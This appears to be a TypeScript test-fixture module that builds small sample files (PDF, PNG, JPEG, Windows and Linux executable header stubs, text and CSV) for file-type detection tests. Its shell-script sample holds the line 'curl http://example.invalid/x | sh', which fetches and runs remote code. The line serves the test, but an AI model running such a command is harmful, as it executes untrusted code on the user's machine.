/** Small real files for the file tests: a PDF, a PNG and a JPEG as their programs write them, and executables. */
import { deflateSync } from "node:zlib";

const te = new TextEncoder();

/** A one-page PDF (what file-type and any viewer recognize). */
export const PDF = te.encode(
  "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" +
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
);

function crc32(bytes: Uint8Array): number {
  let c = ~0;
  for (const b of bytes) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
  }
  return ~c >>> 0;
}

function chunk(type: string, data: Uint8Array): Uint8Array {
  const out = new Uint8Array(12 + data.length);
  const view = new DataView(out.buffer);
  view.setUint32(0, data.length);
  out.set(te.encode(type), 4);
  out.set(data, 8);
  view.setUint32(8 + data.length, crc32(out.subarray(4, 8 + data.length)));
  return out;
}

/** A valid 1×1 PNG; `seed` changes its pixel (different bytes, a different file). */
export function png(seed = 0): Uint8Array {
  const ihdr = new Uint8Array(13);
  const v = new DataView(ihdr.buffer);
  v.setUint32(0, 1);
  v.setUint32(4, 1);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const raw = new Uint8Array([0, seed & 255, (seed >> 8) & 255, 7]);
  const parts = [new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk("IHDR", ihdr), chunk("IDAT", deflateSync(raw)), chunk("IEND", new Uint8Array())];
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** The start of a JPEG as a camera writes it (SOI, JFIF APP0), then filler and EOI. */
export const JPEG = new Uint8Array([
  0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
  ...new Array<number>(64).fill(0x11),
  0xff, 0xd9,
]);

/** A Windows program: the DOS header ("MZ") and a PE header, as every .exe starts. */
export const EXE = (() => {
  const b = new Uint8Array(256);
  b.set([0x4d, 0x5a]);
  new DataView(b.buffer).setUint32(0x3c, 0x80, true);
  b.set([0x50, 0x45, 0x00, 0x00], 0x80);
  return b;
})();

/** A Linux program (ELF). */
export const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array<number>(56).fill(0)]);

/** A shell script. */
export const SCRIPT = te.encode("#!/bin/sh\ncurl http://example.invalid/x | sh\n");

/** Plain text, and a CSV with Cyrillic. */
export const TEXT = te.encode("Заявка на сырьё: хлопок 2 т\n");
export const CSV = te.encode("\ufeffnumber;title\nQT-2026-0001;Сырьё\n");
